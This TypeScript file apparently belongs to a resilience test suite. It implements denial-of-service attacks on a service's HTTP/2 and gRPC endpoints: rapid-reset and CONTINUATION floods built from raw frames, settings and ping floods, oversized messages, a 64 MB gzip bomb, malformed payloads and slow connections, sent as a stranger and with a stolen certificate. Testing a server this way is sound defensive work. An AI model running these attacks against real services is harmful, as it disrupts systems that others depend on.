/**
 * HTTP/2 and gRPC, by strangers in the lobby and by a thief with a valid certificate: streams reset at once, headers without an end,
 * settings and pings without an end, messages too large, zipped bombs, octets that are no message, ends that do not read or write.
 */
import { type ClientHttp2Session, type ClientHttp2Stream, connect } from 'node:http2';
import type { TLSSocket } from 'node:tls';
import { gzipSync } from 'node:zlib';
import type { Credentials } from '../enrolled.ts';
import { type Attack, type Context, pause, secured, type Tried } from './attack.ts';

const SESSION = '/dorawatch.v1.Agents/Session';
const JOIN = '/dorawatch.v1.Enrolment/Join';
const BOMB = gzipSync(Buffer.alloc(64 << 20));

const headers = (path: string, more: Readonly<Record<string, string>> = {}) => ({
  ':method': 'POST',
  ':path': path,
  'content-type': 'application/grpc',
  te: 'trailers',
  ...more,
});

/** gRPC's frame: whether it is compressed, its length, itself. */
function message(octets: Buffer, compressed = 0, length = octets.length): Buffer {
  const head = Buffer.alloc(5);
  head[0] = compressed;
  head.writeUInt32BE(length, 1);
  return Buffer.concat([head, octets]);
}

function http2Frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

type Turn = (session: ClientHttp2Session, done: (said: string) => void) => void;

/** For so long: a connection, and turns on it until it is gone; then another. */
async function turns(context: Context, own: Credentials | null, ms: number, turn: Turn): Promise<Tried> {
  const end = performance.now() + ms;
  let [tried, gotIn, said, connections] = [0, 0, 'nothing', 0];
  while (performance.now() < end) {
    connections += 1;
    const socket = await secured(context, own).catch(String);
    if (typeof socket === 'string') {
      said = socket;
      await pause(20);
      continue;
    }
    const settings = { maxOutstandingPings: 1e6, maxOutstandingSettings: 1e6 };
    const session = connect(`https://${context.address}`, { createConnection: () => socket, ...settings });
    session.on('error', (error) => (said = error.message));
    session.on('goaway', (code) => (said = `GOAWAY ${code}`));
    while (performance.now() < end && !session.destroyed && !session.closed) {
      for (let n = 0; n < 50 && !session.destroyed && !session.closed; n += 1) {
        tried += 1;
        turn(session, (answer) => {
          if (answer === '0') gotIn += 1;
          said = answer;
        });
      }
      await pause(1);
    }
    session.destroy();
    socket.destroy();
  }
  return { tried, gotIn, said: `${said}; ${connections} connections` };
}

/** One call. @returns gRPC's code and words, or HTTP/2's */
function call(
  session: ClientHttp2Session,
  path: string,
  body: Buffer,
  more: Readonly<Record<string, string>>,
  done: (said: string) => void,
): void {
  const stream: ClientHttp2Stream = session.request(headers(path, more));
  const told = (found: Readonly<Record<string, unknown>>): void => {
    const code = found['grpc-status'];
    if (code !== undefined)
      done(code === '0' ? '0' : `${code} ${decodeURIComponent(String(found['grpc-message'] ?? ''))}`);
  };
  stream.on('error', (error) => done(error.message));
  stream.on('response', told);
  stream.on('trailers', told);
  stream.resume();
  stream.end(body);
}

const one = (name: string, pick: (context: Context) => Credentials | null, turn: Turn): Attack => ({
  name,
  run: (context, ms) => turns(context, pick(context), ms, turn),
});
const byStranger = (name: string, turn: Turn) => one(`${name} (stranger)`, () => null, turn);
const byThief = (name: string, turn: Turn) => one(`${name} (stolen certificate)`, ({ member }) => member, turn);
const both = (name: string, turnAt: (path: string) => Turn) => [
  byStranger(name, turnAt(JOIN)),
  byThief(name, turnAt(SESSION)),
];

/** POST to a path, as HPACK writes it without a table. */
const postTo = (path: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x83, 0x87, 0x04, path.length]),
    Buffer.from(path),
    Buffer.from([0x0f, 0x10, 16]),
    Buffer.from('application/grpc'),
  ]);

const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), http2Frame(4, 0, 0, Buffer.alloc(0))]);

/** Begins a stream and takes it back, in one write and without waiting for the other end's settings: as many as it reads. */
async function rapidReset(context: Context, own: Credentials | null, path: string, ms: number): Promise<Tried> {
  const end = performance.now() + ms;
  let [tried, connections, lastGoaway] = [0, 0, -1];
  const [begin, cancel] = [postTo(path), Buffer.from([0, 0, 0, 8])];
  while (performance.now() < end) {
    connections += 1;
    const socket = await secured(context, own).catch(() => null);
    if (socket === null) {
      await pause(20);
      continue;
    }
    socket.on('data', (octets: Buffer) => {
      // GOAWAY's type and the stream that it is of; its code is the last four octets.
      const at = octets.indexOf(Buffer.from([7, 0, 0, 0, 0, 0]));
      if (at >= 0 && octets.length >= at + 14) lastGoaway = octets.readUInt32BE(at + 10);
    });
    socket.write(PREFACE);
    for (let stream = 1; performance.now() < end && !socket.destroyed && socket.writable; ) {
      const frames: Buffer[] = [];
      for (let n = 0; n < 100; n += 1, stream += 2)
        frames.push(http2Frame(1, 4, stream, begin), http2Frame(3, 0, stream, cancel));
      tried += 100;
      if (!socket.write(Buffer.concat(frames)))
        await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), pause(20)]);
      await pause(0);
    }
    socket.destroy();
  }
  return { tried, gotIn: 0, said: `${connections} connections, the last GOAWAY has code ${lastGoaway}` };
}

/** HEADERS that do not end, and CONTINUATION after CONTINUATION, over and over. */
async function endlessHeaders(context: Context, ms: number): Promise<Tried> {
  const end = performance.now() + ms;
  let [tried, connections] = [0, 0];
  // A literal field with a new name: x-fill: 1000 times "a".
  const field = Buffer.concat([
    Buffer.from([0, 6]),
    Buffer.from('x-fill'),
    Buffer.from([0x7f, 0xe9, 0x06]),
    Buffer.alloc(1_000, 0x61),
  ]);
  while (performance.now() < end) {
    connections += 1;
    const socket = await secured(context, null).catch(() => null);
    if (socket === null) {
      await pause(20);
      continue;
    }
    socket.resume();
    socket.write(Buffer.concat([PREFACE, http2Frame(1, 0, 1, field)]));
    while (performance.now() < end && !socket.destroyed && socket.writable) {
      for (let n = 0; n < 50; n += 1) socket.write(http2Frame(9, 0, 1, field));
      tried += 50;
      await pause(1);
    }
    socket.destroy();
  }
  return { tried, gotIn: 0, said: `${connections} connections, each ended by the other side` };
}

/** Sessions whose end reads nothing, or writes an octet now and then. */
async function slowEnds(context: Context, ms: number): Promise<Tried> {
  const open: TLSSocket[] = [];
  let refused = 0;
  for (let n = 0; n < 60; n += 1) {
    const socket = await secured(context, n % 2 === 0 ? context.member : null).catch(() => null);
    if (socket === null) refused += 1;
    else open.push(socket);
  }
  for (const socket of open) socket.pause();
  for (let at = 0; at < PREFACE.length; at += 1) {
    for (const socket of open) if (socket.writable) socket.write(PREFACE.subarray(at, at + 1));
    await pause(ms / PREFACE.length);
  }
  const left = open.filter(({ destroyed }) => !destroyed).length;
  for (const socket of open) socket.destroy();
  return { tried: 60, gotIn: 0, said: `${refused} refused, ${left} still open at the end` };
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  { name: 'rapid reset (stranger)', run: (context, ms) => rapidReset(context, null, JOIN, ms) },
  { name: 'rapid reset (stolen certificate)', run: (context, ms) => rapidReset(context, context.member, SESSION, ms) },
  { name: 'headers without an end', run: endlessHeaders },
  byStranger('a flood of settings', (session) => session.settings({ initialWindowSize: 65_535 })),
  byThief('a flood of pings', (session) => void session.ping(() => undefined)),
  ...both(
    'messages of 4 MB',
    (path) => (session, done) => call(session, path, message(Buffer.alloc(4 << 20, 8)), {}, done),
  ),
  ...both(
    'a bomb of 64 MB in 64 kB',
    (path) => (session, done) => call(session, path, message(BOMB, 1), { 'grpc-encoding': 'gzip' }, done),
  ),
  ...both(
    'octets that are no message',
    (path) => (session, done) => call(session, path, message(Buffer.from('0affffffff0f08', 'hex')), {}, done),
  ),
  byStranger('a length that never comes', (session, done) =>
    call(session, JOIN, message(Buffer.alloc(9), 0, 0xffffffff), {}, done),
  ),
  { name: 'slow readers and writers', run: slowEnds },
];
